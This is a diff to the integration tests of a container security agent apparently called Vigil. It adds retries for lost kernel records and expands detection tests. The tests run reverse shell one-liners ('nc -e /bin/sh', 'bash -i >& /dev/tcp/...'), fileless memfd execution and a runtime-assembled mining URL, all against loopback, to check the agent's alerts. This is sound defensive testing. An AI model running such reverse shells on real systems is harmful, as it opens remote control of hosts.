@@ -18,6 +18,8 @@ import { docker, missingForContainerTests, TEST_IMAGES, uniqueName, WORKLOAD_IMA
 const skip = missingForContainerTests();
 const skipPython = skip ??
   (spawnSync('docker', ['image', 'inspect', WORKLOAD_IMAGES.python], { stdio: 'ignore' }).status === 0 ? undefined : `workload image ${WORKLOAD_IMAGES.python} missing (run scripts/build-test-images.sh)`);
+const HOST_BUSYBOX = '/bin/busybox';
+const skipHostBusybox = skip ?? (existsSync(HOST_BUSYBOX) ? undefined : `no static busybox on the host (${HOST_BUSYBOX}, Debian's busybox-static) to listen in the bash image`);
 const FIXTURES = resolve(dirname(fileURLToPath(import.meta.url)), '..', '..', '..', 'test', 'policy', 'fixtures');
 const WAIT_MS = 90_000;
 
@@ -27,8 +29,17 @@ class LogReader {
   private rest = '';
   private readonly decoder = new StringDecoder('utf8');
   private readonly byId = new Map<string, VigilEvent[]>();
+  /** The highest seq read, and the seqs of the agent's `lost` entries (records the kernel could not queue). */
+  lastSeq = 0;
+  private readonly lost: number[] = [];
 
   constructor(private readonly path: string) {}
+
+  /** Whether the agent reported records lost after seq. */
+  lostAfter(seq: number): boolean {
+    this.read();
+    return this.lost.some((s) => s > seq);
+  }
 
   /** The container's own events so far (the runtime's set-up left out), in log order. */
   events(id: string): VigilEvent[] {
@@ -59,6 +70,8 @@ class LogReader {
           let list = this.byId.get(e.container.id);
           if (!list) this.byId.set(e.container.id, (list = []));
           list.push(e);
+          this.lastSeq = Math.max(this.lastSeq, e.seq);
+          if (e.kind === 'lost') this.lost.push(e.seq);
         }
       }
     } finally {
@@ -151,8 +164,37 @@ function listing(events: VigilEvent[]): string {
 }
 
 /** Waits until each named match has an event among the container's, and returns the first of each. */
+/**
+ * Records the kernel could not queue (other tests on this machine can flood every agent's ring
+ * buffer) make an expected event never come: the scenario is then run again (see scenario()).
+ */
+class RecordsLost extends Error {}
+
+/** The log position when the current scenario began. */
+let scenarioStart = 0;
+
+/** Runs a test's scenario, again (a few times) when the agent lost records while it ran. */
+async function scenario(run: () => Promise<void>, attempts = 3): Promise<void> {
+  for (let i = 1; ; i++) {
+    log.events('');
+    scenarioStart = log.lastSeq;
+    try {
+      await run();
+      return;
+    } catch (e) {
+      if (!(e instanceof RecordsLost) || i >= attempts) throw e;
+      console.log(`# ${e.message}; running the scenario again (${i + 1} of ${attempts})`);
+    }
+  }
+}
+
+/** Grace after the agent reports lost records before the scenario is given up. */
+const LOST_GRACE_MS = 10_000;
+
+/** Waits until each named match has an event among the container's, and returns the first of each. */
 async function events<K extends string>(c: Container, wanted: Record<K, Match>, timeoutMs = WAIT_MS): Promise<Record<K, VigilEvent>> {
   const until = Date.now() + timeoutMs;
+  let lostSeen: number | undefined;
   for (;;) {
     const mine = log.events(c.id);
     const found: Partial<Record<K, VigilEvent>> = {};
@@ -163,6 +205,8 @@ async function events<K extends string>(c: Container, wanted: Record<K, Match>, 
       else missing.push(k);
     }
     if (missing.length === 0) return found as Record<K, VigilEvent>;
+    if (lostSeen === undefined && log.lostAfter(scenarioStart)) lostSeen = Date.now();
+    if (lostSeen !== undefined && Date.now() - lostSeen > LOST_GRACE_MS) throw new RecordsLost(`the agent lost records in the kernel and has no event for ${missing.join(', ')} in container ${c.name}`);
     if (Date.now() > until) assert.fail(`no event for ${missing.join(', ')} in container ${c.name} after ${timeoutMs} ms; its events:\n${listing(mine)}\nagent stderr:\n${agent?.stderr()}`);
     await new Promise((r) => setTimeout(r, 200));
   }
@@ -198,7 +242,7 @@ function notFor(e: VigilEvent, rule: string, what: string): void {
 
 const SHELL = 'execve shell';
 
-test('execve shell: a docker exec shell, with and without a terminal; docker exec of cat, the entrypoint script and its sub-shells (busybox and bash) stay NORMAL', { skip }, async () => {
+test('execve shell: a docker exec shell, with and without a terminal; docker exec of cat, the entrypoint script and its sub-shells (busybox and bash) stay NORMAL', { skip }, async () => scenario(async () => {
   const [busybox, bash] = await Promise.all([
     start(TEST_IMAGES.busybox, 'sh -c true; ls /; exec sleep 300'),
     start(TEST_IMAGES.bash, 'sh -c true; ls /'),
@@ -237,9 +281,9 @@ test('execve shell: a docker exec shell, with and without a terminal; docker exe
   } finally {
     remove(busybox, bash);
   }
-});
+}));
 
-test('execve shell: a program that is not a shell (python) starting sh and `busybox sh`; the same program running cat stays NORMAL', { skip: skipPython }, async () => {
+test('execve shell: a program that is not a shell (python) starting sh and `busybox sh`; the same program running cat stays NORMAL', { skip: skipPython }, async () => scenario(async () => {
   const py = await start(WORKLOAD_IMAGES.python, 'python3 /fx/spawn-shell.py', ['-v', `${FIXTURES}:/fx:ro`]);
   try {
     assert.equal(finish(py), 0, logsOf(py));
@@ -256,9 +300,9 @@ test('execve shell: a program that is not a shell (python) starting sh and `busy
   } finally {
     remove(py);
   }
-});
+}));
 
-test('execve shell: an interactive shell on a terminal (docker run -t, the shell given no command); a script on the terminal and its sub-shell stay NORMAL', { skip }, async () => {
+test('execve shell: an interactive shell on a terminal (docker run -t, the shell given no command); a script on the terminal and its sub-shell stay NORMAL', { skip }, async () => scenario(async () => {
   // The script ends by exec-ing a shell that reads the terminal: `docker run -t IMAGE sh` after a set-up script.
   const c = await start(TEST_IMAGES.busybox, 'sh -c true; ls /; exec sh', ['-t']);
   try {
@@ -275,14 +319,14 @@ test('execve shell: an interactive shell on a terminal (docker run -t, the shell
   } finally {
     remove(c);
   }
-});
+}));
 
 /** A listener in the container on `port` feeds `exit` to what connects, and the client retries until it is up. */
 function viaListener(port: number, listener: string, client: string): string {
   return `${listener.replace('PORT', String(port))} & i=0; until ${client.replace('PORT', String(port))}; do i=$((i+1)); [ $i -gt 100 ] && exit 9; sleep 0.1; done; wait`;
 }
 
-test('reverse shell: busybox nc -e /bin/sh and nc -e sh, bash /dev/tcp; nc sending a file and a shell on a pipe stay NORMAL', { skip }, async () => {
+test('reverse shell: busybox nc -e /bin/sh and nc -e sh, bash -i >& /dev/tcp, an interactive bash connecting; nc sending a file, a shell on a pipe and a wait-for-it probe stay NORMAL', { skip: skipHostBusybox }, async () => scenario(async () => {
   const RULE = 'reverse shell';
   const [nc, devTcp] = await Promise.all([
     start(TEST_IMAGES.busybox, [
@@ -291,8 +335,14 @@ test('reverse shell: busybox nc -e /bin/sh and nc -e sh, bash /dev/tcp; nc sendi
       viaListener(9003, 'nc -l -p PORT >/dev/null', 'nc 127.0.0.1 PORT </etc/hostname'),
       'echo exit | sh',
     ].join('\n')),
-    // bash's /dev/tcp: the shell connects itself (refused: nothing listens; the connect is the event).
-    start(TEST_IMAGES.bash, 'echo x >/dev/tcp/127.0.0.1/9004 || true'),
+    // bash's /dev/tcp: the classic `bash -i >& /dev/tcp/H/P 0>&1` (the host's static busybox
+    // listens); an interactive shell connecting itself (refused: nothing listens; the connect is
+    // the event); and a wait-for-it probe of a service on a private address (loopback here).
+    start(TEST_IMAGES.bash, [
+      viaListener(9006, 'echo exit | /opt/vigil/busybox nc -l -p PORT', "bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'"),
+      "bash -i -c 'echo x >/dev/tcp/127.0.0.1/9004' || true",
+      "bash -c 'cat </dev/null >/dev/tcp/127.0.0.1/9005' || true",
+    ].join('\n'), ['-t', '-v', `${HOST_BUSYBOX}:/opt/vigil/busybox:ro`]),
   ]);
   try {
     assert.equal(finish(nc), 0, logsOf(nc));
@@ -314,15 +364,20 @@ test('reverse shell: busybox nc -e /bin/sh and nc -e sh, bash /dev/tcp; nc sendi
     for (const e of [n.sendFile, n.sendConnect, n.pipeShell]) assert.equal(e.verdict.level, 'NORMAL', listing([e]));
 
     assert.equal(finish(devTcp), 0, logsOf(devTcp));
-    const d = await events(devTcp, { connect: connect(9004) });
-    assert.equal(d.connect.process.comm, 'sh');
-    insecure(d.connect, RULE, 'bash >/dev/tcp/127.0.0.1/9004');
+    const d = await events(devTcp, { bashI: exec(['bash', '-i']), interactive: connect(9004), probe: connect(9005) });
+    assert.deepEqual(d.bashI.process.stdio, ['inet', 'inet', 'inet']);
+    insecure(d.bashI, RULE, 'bash -i >& /dev/tcp/127.0.0.1/9006 0>&1');
+    assert.equal(d.interactive.process.comm, 'bash');
+    insecure(d.interactive, RULE, 'bash -i: echo >/dev/tcp/127.0.0.1/9004');
+    assert.equal(d.probe.process.comm, 'bash');
+    notFor(d.probe, RULE, 'bash -c: cat </dev/null >/dev/tcp/127.0.0.1/9005 (wait-for-it)');
+    assert.equal(d.probe.verdict.level, 'NORMAL', listing([d.probe]));
   } finally {
     remove(nc, devTcp);
   }
-});
+}));
 
-test('fileless execution: a memfd run by /proc/self/fd/N and by fexecve, a deleted file run through its fd; /bin/true stays NORMAL', { skip: skipPython }, async () => {
+test('fileless execution: a memfd run by /proc/self/fd/N and by fexecve, a deleted file run through its fd; /bin/true stays NORMAL', { skip: skipPython }, async () => scenario(async () => {
   const RULE = 'fileless execution';
   const py = await start(WORKLOAD_IMAGES.python, 'python3 /fx/fileless.py && /bin/true', ['-v', `${FIXTURES}:/fx:ro`]);
   try {
@@ -345,9 +400,9 @@ test('fileless execution: a memfd run by /proc/self/fd/N and by fexecve, a delet
   } finally {
     remove(py);
   }
-});
+}));
 
-test('binary not from image: /bin/true copied to /tmp and to /usr/local/bin and run; /bin/true and ls from the image, and docker run --init, stay NORMAL', { skip }, async () => {
+test('binary not from image: /bin/true copied to /tmp and to /usr/local/bin and run; /bin/true and ls from the image, and docker run --init, stay NORMAL', { skip }, async () => scenario(async () => {
   const RULE = 'binary not from image';
   const c = await start(TEST_IMAGES.bash, 'cp /bin/true /tmp/x && /tmp/x && mkdir -p /usr/local/bin && cp /bin/true /usr/local/bin/vigil-tool && vigil-tool && /bin/true && ls /');
   try {
@@ -377,9 +432,9 @@ test('binary not from image: /bin/true copied to /tmp and to /usr/local/bin and 
   } finally {
     remove(c);
   }
-});
+}));
 
-test('package manager at run time: apt-get, pip and npm install made at run time and run from PATH, python3 -m pip; pipeline, npm start, npm run and python3 -m platform stay NORMAL', { skip: skipPython }, async () => {
+test('package manager at run time: apt-get, pip and npm install made at run time and run from PATH, python3 -m pip; pipeline, npm start, npm run and python3 -m platform stay NORMAL', { skip: skipPython }, async () => scenario(async () => {
   const RULE = 'package manager at run time';
   const [c, py] = await Promise.all([
     start(TEST_IMAGES.bash, 'cp /bin/true /tmp/apt-get && PATH=/tmp:$PATH apt-get update && mkdir -p /usr/local/bin && ' +
@@ -419,9 +474,9 @@ test('package manager at run time: apt-get, pip and npm install made at run time
   } finally {
     remove(c, py);
   }
-});
+}));
 
-test('crypto mining: a stratum+tcp URL on a command line, a connect to 127.0.0.1:3333; an http URL and a connect to 127.0.0.1:8080 stay NORMAL', { skip }, async () => {
+test('crypto mining: a stratum+tcp URL on a command line, a connect to 127.0.0.1:3333; an http URL and a connect to 127.0.0.1:8080 stay NORMAL', { skip }, async () => scenario(async () => {
   const RULE = 'crypto mining';
   // The URL is put together at run time, so that the container's own command line does not hold it.
   const c = await start(TEST_IMAGES.busybox, 'u=stratum; env true -o "$u+tcp://127.0.0.1:3333"; env true -o "http://127.0.0.1:3333"; ' +
@@ -444,4 +499,4 @@ test('crypto mining: a stratum+tcp URL on a command line, a connect to 127.0.0.1
   } finally {
     remove(c);
   }
-});
+}));
